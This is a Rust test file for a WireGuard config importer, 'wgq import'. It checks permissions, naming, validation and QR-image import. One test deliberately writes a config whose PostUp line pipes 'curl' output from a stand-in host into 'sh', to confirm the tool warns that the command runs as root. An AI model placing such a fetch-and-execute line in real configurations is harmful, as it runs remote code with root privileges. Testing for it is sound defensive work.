//! `wgq import` on hosts of their own, each a script that begins with tests/engine/prelude.sh.
//!
//! Needs root, or a user namespace in which one is root.

#![allow(missing_docs, reason = "a test")]

mod script;

/// A provider's file in a folder of its own, with what only a byte for byte copy keeps.
const DOWNLOAD: &str = r"cd $work
printf '\xef\xbb\xbf# from a provider\r\n[Interface]\r\nPrivateKey = %s\r\nAddress=10.8.0.2/32 # mine\r\n\r\n[Peer]\r\nPublicKey = %s\r\nAllowedIPs = 10.8.0.0/24\r\nX' $private $peer1 >office.conf
truncate -s -1 office.conf
";

fn host(script: &str) {
    script::host(&format!("{DOWNLOAD}{script}"));
}

#[test]
fn a_config_is_put_in_place_byte_for_byte_for_root_alone() {
    host(
        r"umask 022
fails 0 wgq import office.conf
says '/etc/wireguard/office.conf: written; `wgq up office` brings it up'
cmp office.conf /etc/wireguard/office.conf
[[ $(stat -c '%a %U %h' /etc/wireguard/office.conf) == '600 root 1' ]]
[[ $(ls -A /etc/wireguard) == office.conf ]]
wgq -q up office
wgq -q down office",
    );
}

#[test]
fn another_file_stays_as_it_is() {
    host(
        r"echo mine >/etc/wireguard/office.conf
fails 1 wgq import office.conf
says '/etc/wireguard/office.conf: is there already'
says 'hint: --name NAME'
[[ $(cat /etc/wireguard/office.conf) == mine ]]
ln -s nowhere /etc/wireguard/link.conf
fails 1 wgq import office.conf --name link
[[ $(ls -A /etc/wireguard | wc -l) == 2 && -L /etc/wireguard/link.conf ]]
wgq import office.conf --name office2
cmp office.conf /etc/wireguard/office2.conf
fails 1 wgq --dry-run import office.conf
fails 0 wgq --dry-run import office.conf --name office3
says 'office3.conf: would be written'
[[ ! -e /etc/wireguard/office3.conf ]]",
    );
}

#[test]
fn a_file_that_up_would_refuse_is_refused_with_all_that_is_wrong() {
    host(
        r"printf '[Interface]\nPrivateKey = %s\nAddress = 10.0.0.1/33\nNonsense = 1\n' $private >bad.conf
fails 1 wgq import bad.conf
says 'bad.conf:3:'
says 'bad.conf:4:'
[[ $said != *$private* ]]
printf '[Interface]\nPrivateKeyFile = /nowhere\n' >bad.conf
fails 1 wgq import bad.conf
says 'bad.conf:2:18: PrivateKeyFile: /nowhere: No such file'
[[ ! $(ls -A /etc/wireguard) ]]
fails 1 wgq import nowhere.conf
says 'nowhere.conf: No such file'",
    );
}

#[test]
fn a_name_that_no_interface_has_becomes_one_with_a_word_on_it() {
    host(
        r#"cp office.conf 'wg0 (1).conf'
fails 0 wgq import 'wg0 (1).conf'
says "calling it \`wg0'"
cp office.conf mullvad-se-got-wg-001.conf
fails 0 wgq import mullvad-se-got-wg-001.conf
says 'at most 15 characters'
cmp office.conf /etc/wireguard/mullvad-se-got.conf
cp office.conf 電話.conf
fails 1 wgq import 電話.conf
says 'hint: --name NAME gives'
fails 1 wgq import - <office.conf
says 'a config from standard input needs a name'
wgq -q import - --name in <office.conf
cmp office.conf /etc/wireguard/in.conf
cp office.conf export.conf.txt
wgq -q import export.conf.txt
[[ -e /etc/wireguard/export.conf ]]"#,
    );
}

#[test]
fn commands_in_it_are_told() {
    host(
        r#"printf '[Interface]\nPrivateKey = %s\nPostUp = curl -s http://192.0.2.1/x | sh\nPostDown = true\n' $private >evil.conf
fails 0 wgq import evil.conf
says 'evil.conf:3:10: PostUp: this command runs as root'
says 'evil.conf:4:12: PostDown: this command runs as root'
says 'curl -s http://192.0.2.1/x | sh'
json=$(wgq -q --json import evil.conf --name evil2 2>/dev/null)
[[ $json == *'"ifname": "evil2"'*'"file": "/etc/wireguard/evil2.conf"'*'curl'*'"next": "wgq up evil2"'* ]]"#,
    );
}

#[test]
fn a_missing_folder_is_made_for_root_alone() {
    host(
        r"umask 022
umount /etc/wireguard
mkdir etc2
cp -a /etc/. etc2
rm -rf etc2/wireguard
mount --bind etc2 /etc
wgq -q import office.conf
[[ $(stat -c %a /etc/wireguard) == 700 ]]",
    );
}

#[test]
fn a_picture_of_its_code_is_as_good_as_the_file() {
    let folder = tempfile::tempdir().unwrap();
    let config = "[Interface]\nPrivateKey = yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=\nAddress = 10.7.0.2/32\n";
    let png = wgq::qr::Qr::of(config).unwrap().png().unwrap();
    std::fs::write(folder.path().join("phone.png"), &*png).unwrap();
    std::fs::write(folder.path().join("phone.conf"), config).unwrap();
    std::fs::write(folder.path().join("broken.png"), &png[..200]).unwrap();
    let folder = folder.path().display();
    host(&format!(
        r"cd {folder}
wgq -q import phone.png
cmp phone.conf /etc/wireguard/phone.conf
wgq -q import - --name phone2 <phone.png
cmp phone.conf /etc/wireguard/phone2.conf
fails 1 wgq import broken.png
says 'broken.png: the PNG picture cannot be read'"
    ));
}
